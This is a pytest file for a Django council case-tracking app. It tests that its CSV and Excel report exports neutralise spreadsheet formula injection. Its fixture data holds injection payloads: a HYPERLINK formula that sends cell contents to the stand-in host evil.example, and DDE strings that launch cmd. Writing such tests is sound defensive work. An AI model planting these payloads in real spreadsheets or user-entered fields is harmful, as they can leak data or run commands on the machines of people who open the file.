"""Spreadsheet exports never carry a formula: text a user typed (a case's location, a
service, department, ward or councillor's name) that a spreadsheet would run as a formula
is written as text, led by an apostrophe."""

import csv
import io
from datetime import date

import pytest
import time_machine
from django.core.management import call_command
from openpyxl import load_workbook

from tests.reports.conftest import _log, at
from tests.reports.test_pages import PERIOD as PAGE_PERIOD
from wardcase.cases import services
from wardcase.directory.models import Directorate
from wardcase.reports import documents, exports

HOSTILE = {
    "location": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "service": "+cmd|' /C calc'!A0",
    "department": "-2+3+cmd|' /C calc'!A0",
    "ward": "@SUM(1+1)*cmd|' /C calc'!A0",
    "directorate": "\t=1+1",
    "councillor": "\r=2+2",
}
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
PERIOD = {"date_from": date(2026, 3, 1), "date_to": date(2026, 3, 31)}


@pytest.fixture
def hostile_world(world):
    """Three cases at a hostile street, of a hostile service in a hostile department of a
    hostile directorate, in a hostile ward, logged by a councillor with a hostile name."""
    directorate = Directorate.objects.create(council=world.council, name=HOSTILE["directorate"])
    world.department.name = HOSTILE["department"]
    world.department.directorate = directorate
    world.department.save()
    world.service.name = HOSTILE["service"]
    world.service.save()
    world.ward.name = HOSTILE["ward"]
    world.ward.save()
    world.councillor.name = HOSTILE["councillor"]
    world.councillor.save()
    with time_machine.travel(at(2026, 3, 2, 10), tick=False):
        for subject in ("A", "B", "C"):
            case = _log(world, world.councillor, subject, location=HOSTILE["location"])
            services.case_assign(
                case=case,
                by=world.coordinator,
                department=world.department,
                lead_officer=world.officer,
            )
    return world


def _documents(world):
    return [
        documents.quarterly(user=world.coordinator, **PERIOD),
        documents.enquiry_types(user=world.councillor, **PERIOD),
    ]


def _is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_neutralised(texts):
    texts = [t for t in texts if isinstance(t, str) and t and not _is_number(t)]
    assert texts, "the export holds no text"
    for text in texts:
        assert not text.startswith(DANGEROUS_STARTS), f"a live formula: {text!r}"
    for field, hostile in HOSTILE.items():
        shown = [t for t in texts if hostile.strip().lower()[1:6] in t.lower()]
        assert shown, f"the hostile {field} is missing from the export"
        assert all(t.startswith("'") for t in shown), shown


def test_no_csv_cell_starts_a_formula(hostile_world):
    """Every hostile name reaches the CSV, each led by an apostrophe."""
    texts = []
    for document in _documents(hostile_world):
        rows = csv.reader(io.StringIO(exports.to_csv(document).decode(), newline=""))
        texts += [cell for row in rows for cell in row]
    _assert_neutralised(texts)


def test_no_xlsx_cell_holds_a_formula(hostile_world):
    """Every cell of the workbook is a string or a number, never a formula."""
    texts = []
    for document in _documents(hostile_world):
        book = load_workbook(io.BytesIO(exports.to_xlsx(document)))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s"
                    texts.append(cell.value)
    _assert_neutralised(texts)


def test_the_report_page_download_is_neutralised(client, hostile_world):
    client.force_login(hostile_world.coordinator)
    response = client.get("/reports/quarterly/", {**PAGE_PERIOD, "format": "csv"})
    assert response.status_code == 200
    text = response.content.decode()
    assert "'=Hyperlink(" in text
    assert "\n=" not in text and ",=" not in text
    response = client.get("/reports/quarterly/", {**PAGE_PERIOD, "format": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)


def test_the_report_command_is_neutralised(hostile_world, tmp_path):
    out = tmp_path / "q.xlsx"
    period = ["--from", "2026-03-01", "--to", "2026-03-31"]
    call_command("report", "quarterly", *period, "--format", "xlsx", "--out", str(out))
    book = load_workbook(out)
    spot = book["Hot spots"]["A4"]
    assert spot.data_type == "s"
    assert spot.value.startswith("'=")
